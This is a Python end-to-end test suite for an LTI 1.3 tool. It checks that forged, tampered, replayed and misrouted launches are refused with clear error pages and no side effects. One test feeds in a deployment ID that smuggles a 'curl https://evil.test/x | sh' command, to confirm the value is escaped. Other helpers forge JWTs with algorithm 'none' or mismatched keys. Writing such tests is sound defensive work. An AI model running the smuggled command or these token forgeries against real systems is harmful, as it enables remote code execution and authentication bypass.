"""The hostile table: one row per rule, over real HTTP, each refused with the right status and a
page that names the problem and who can fix it; none a 500; none leaving a person, membership,
enrolment, identity or launch session behind.

Each row's ``prepare(world)`` does any honest steps first (a real login, a first launch for the
replay rows) and returns the hostile request; counts are taken just before it is sent.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
import requests

from etwin_lti.lti import claims as c
from tests.e2e.conftest import World
from tests.e2e.harness import Form, Launch, auth_query
from tests.support.lti_tokens import (
    ROLE_LEARNER,
    ROLE_MENTOR,
    mint,
    mint_raw,
    platform_key,
)

pytestmark = pytest.mark.e2e
Action = Callable[[], requests.Response]


def with_claims(**claims: Any) -> Callable[[World], Action]:
    """A launch whose platform puts these claims in the id_token (None removes one)."""

    def prepare(world: World) -> Action:
        # Times are computed now, not when the table was built.
        world.platform.claims.update({k: v() if callable(v) else v for k, v in claims.items()})
        return world.browser().launch

    return prepare


def with_mint(sign: Callable[[Launch, dict[str, Any]], str]) -> Callable[[World], Action]:
    def prepare(world: World) -> Action:
        world.platform.mint = sign
        return world.browser().launch

    return prepare


def login_with(**change: str | None) -> Callable[[World], Action]:
    def prepare(world: World) -> Action:
        return lambda: world.browser().start_login(**change)

    return prepare


def replayed_nonce(world: World) -> Action:
    browser = world.browser()
    form = browser.authorize(browser.start_login())
    cookie = browser.http.cookies.get("etwin_lti_state")
    assert browser.post(form).status_code == 200
    # The tool cleared the state cookie; a replaying attacker simply sends it again.
    browser.http.cookies.set("etwin_lti_state", cookie, path="/lti/")
    return lambda: browser.post(form)


def replay_from_second_client(world: World) -> Action:
    victim = world.browser()
    form = victim.authorize(victim.start_login())
    assert victim.post(form).status_code == 200
    attacker = world.browser()
    own = attacker.authorize(attacker.start_login())  # a fresh state cookie and state of its own
    stolen = Form(own.action, {"id_token": form.fields["id_token"], "state": own.fields["state"]})
    return lambda: attacker.post(stolen)


def stolen_token_without_cookie(world: World) -> Action:
    victim = world.browser()
    form = victim.authorize(victim.start_login())
    return lambda: world.browser().post(form)  # another client: no state cookie at all


def missing_state_cookie(world: World) -> Action:
    browser = world.browser()
    form = browser.authorize(browser.start_login())
    browser.http.cookies.clear()
    return lambda: browser.post(form)


def state_mismatch(world: World) -> Action:
    browser = world.browser()
    form = browser.authorize(browser.start_login())
    other = world.browser()
    other_state = auth_query(other.start_login())["state"]
    return lambda: browser.post(Form(form.action, {**form.fields, "state": other_state}))


def no_id_token(world: World) -> Action:
    browser = world.browser()
    form = browser.authorize(browser.start_login())
    return lambda: browser.post(Form(form.action, {"state": form.fields["state"]}))


def unknown_deployment(world: World) -> Action:
    world.platform.claims[c.DEPLOYMENT_ID] = "99"
    return world.browser().launch


def inactive_deployment(world: World) -> Action:
    world.container.registrations.add_deployment(world.platform_id, "7", active=False)
    world.platform.claims[c.DEPLOYMENT_ID] = "7"
    return world.browser().launch


def mentor_into_pupil_space(world: World) -> Action:
    world.platform.claims.update(roles=[ROLE_LEARNER])
    assert world.browser().launch(login_hint="pupil-1").status_code == 200  # pupils now inside
    world.platform.claims.update(roles=[ROLE_MENTOR])
    return lambda: world.browser().launch(login_hint="mentor-1")


def deep_link_by_learner(world: World) -> Action:
    world.platform.claims.update(message_type=c.DEEP_LINKING_REQUEST, roles=[ROLE_LEARNER])
    return world.browser().launch


def malformed_json(launch: Launch, body: dict[str, Any]) -> str:
    return mint_raw({"alg": "RS256", "kid": platform_key().kid}, '{"iss": "x", "sub": ')


def json_list_claims(launch: Launch, body: dict[str, Any]) -> str:
    return mint_raw({"alg": "RS256", "kid": platform_key().kid}, "[1, 2, 3]")


def wrong_signature(launch: Launch, body: dict[str, Any]) -> str:
    return mint(body, platform_key("attacker"), kid=platform_key().kid)


def tampered(launch: Launch, body: dict[str, Any]) -> str:
    header, _, sig = mint(body).split(".")
    forged = mint({**body, c.SUB: "someone-else"}).split(".")[1]
    return ".".join([header, forged, sig])


def unknown_kid(launch: Launch, body: dict[str, Any]) -> str:
    return mint(body, platform_key("never-published"))


def now_plus(seconds: int) -> int:
    import time

    return int(time.time()) + seconds


ROWS: list[tuple[str, Callable[[World], Action], int, str]] = [
    ("wrong signature", with_mint(wrong_signature), 401, "invalid_signature"),
    ("claims tampered after signing", with_mint(tampered), 401, "invalid_signature"),
    ("alg none", with_mint(lambda _launch, b: mint(b, alg="none")), 401, "algorithm_not_allowed"),
    ("alg HS256", with_mint(lambda _launch, b: mint(b, alg="HS256")), 401, "algorithm_not_allowed"),
    ("no kid", with_mint(lambda _launch, b: mint(b, kid=None)), 401, "missing_kid"),
    ("unknown kid", with_mint(unknown_kid), 401, "unknown_kid"),
    (
        "expired",
        with_claims(exp=lambda: now_plus(-120), iat=lambda: now_plus(-420)),
        401,
        "token_expired",
    ),
    ("iat beyond leeway", with_claims(iat=lambda: now_plus(120)), 401, "token_issued_in_future"),
    ("wrong aud", with_claims(aud="someone-else"), 401, "audience_mismatch"),
    ("several aud, no azp", with_claims(aud=["e2e-client", "x"]), 401, "azp_mismatch"),
    ("azp mismatch", with_claims(aud=["e2e-client", "x"], azp="x"), 401, "azp_mismatch"),
    ("wrong iss", with_claims(iss="https://evil.test"), 401, "issuer_mismatch"),
    ("nonce of another login", with_claims(nonce="forged"), 401, "nonce_mismatch"),
    ("missing deployment", with_claims(**{c.DEPLOYMENT_ID: None}), 401, "missing_claim"),
    ("unknown deployment", unknown_deployment, 403, "unknown_deployment"),
    ("inactive deployment", inactive_deployment, 403, "inactive_deployment"),
    ("replayed nonce", replayed_nonce, 401, "launch_replayed"),
    ("replay from a second client", replay_from_second_client, 401, "token_replay"),
    ("stolen form, no cookie", stolen_token_without_cookie, 401, "missing_state_cookie"),
    ("missing state cookie", missing_state_cookie, 401, "missing_state_cookie"),
    ("state mismatch", state_mismatch, 401, "state_mismatch"),
    ("no id_token", no_id_token, 401, "malformed_token"),
    ("missing roles claim", with_claims(**{c.ROLES: None}), 401, "missing_claim"),
    ("empty roles", with_claims(roles=[]), 403, "unmapped_role"),
    ("unknown role only", with_claims(roles=["http://x.test/r#Boss"]), 403, "unmapped_role"),
    ("missing sub", with_claims(sub=None), 401, "missing_claim"),
    (
        "unknown message type",
        with_claims(message_type="LtiStartProctoring"),
        401,
        "unsupported_message_type",
    ),
    ("wrong version", with_claims(**{c.VERSION: "1.1.0"}), 401, "unsupported_version"),
    ("missing resource_link", with_claims(**{c.RESOURCE_LINK: None}), 401, "missing_claim"),
    ("oversize token", with_claims(padding="x" * 70_000), 401, "oversize_token"),
    ("malformed JSON in claims", with_mint(malformed_json), 401, "malformed_token"),
    ("claims are a JSON list", with_mint(json_list_claims), 401, "malformed_token"),
    ("context claim not an object", with_claims(**{c.CONTEXT: "course"}), 401, "missing_claim"),
    ("no etwin_resource", with_claims(resource=None), 400, "missing_resource"),
    ("resource does not exist", with_claims(resource="twinspace:999"), 404, "not_found"),
    ("mentor into a pupil space", mentor_into_pupil_space, 403, "forbidden"),
    ("deep linking by a learner", deep_link_by_learner, 403, "forbidden"),
    ("login: unknown issuer", login_with(iss="https://unknown.test"), 400, "unknown_issuer"),
    ("login: unknown client_id", login_with(client_id="nobody"), 400, "unknown_client_id"),
    ("login: missing login_hint", login_with(login_hint=None), 400, "invalid_login"),
    ("login: missing target_link_uri", login_with(target_link_uri=None), 400, "invalid_login"),
    (
        "login: foreign target_link_uri",
        login_with(target_link_uri="https://evil.test/x"),
        400,
        "invalid_login",
    ),
]


@pytest.mark.parametrize(("name", "prepare", "status", "code"), ROWS, ids=[r[0] for r in ROWS])
def test_hostile_launch_is_refused(
    world: World, name: str, prepare: Callable[[World], Action], status: int, code: str
) -> None:
    world.platform.claims = {
        c.CUSTOM: {
            "etwin_resource": f"twinspace:{world.resources.twinspace_id}",
            "etwin_country": "FR",
        }
    }
    if "resource" in name:
        world.platform.claims.pop(c.CUSTOM)
    send = prepare(world)
    before = world.counts()
    response = send()
    assert response.status_code == status, response.text[:1000]
    assert f'data-error="{code}"' in response.text
    assert "Who can fix this" in response.text
    assert "Traceback" not in response.text
    assert "etwin_launch" not in response.cookies
    assert world.counts() == before


def test_unknown_deployment_is_recorded_inactive_with_the_command_to_activate(world: World) -> None:
    world.platform.claims = {
        c.DEPLOYMENT_ID: "42",
        c.CUSTOM: {"etwin_resource": f"twinspace:{world.resources.twinspace_id}"},
    }
    response = world.browser().launch()
    assert response.status_code == 403
    assert f"etwin-lti platform activate {world.platform_id} 42" in response.text
    deployment = world.container.registrations.find_deployment(world.platform_id, "42")
    assert deployment is not None and deployment.active is False


def test_a_hostile_deployment_id_is_shown_quoted_and_escaped(world: World) -> None:
    hostile = "1; curl https://evil.test/x | sh #<b>"
    world.platform.claims = {
        c.DEPLOYMENT_ID: hostile,
        c.CUSTOM: {"etwin_resource": f"twinspace:{world.resources.twinspace_id}"},
    }
    response = world.browser().launch()
    assert response.status_code == 403
    # shlex-quoted for the shell, then HTML-escaped for the page: copied, it runs nothing.
    quoted = "&#39;1; curl https://evil.test/x | sh #&lt;b&gt;&#39;"
    assert f"etwin-lti platform activate {world.platform_id} {quoted}" in response.text
    assert "<b>" not in response.text


def test_forged_kids_refetch_the_key_set_at_most_once(world: World) -> None:
    world.platform.claims = {
        c.CUSTOM: {"etwin_resource": f"twinspace:{world.resources.twinspace_id}"}
    }
    world.platform.mint = unknown_kid
    for _ in range(3):
        assert world.browser().launch().status_code == 401
    # First launch: the initial fetch plus one refetch for the unknown kid; then rate-limited.
    assert world.platform.jwks_fetches == 2
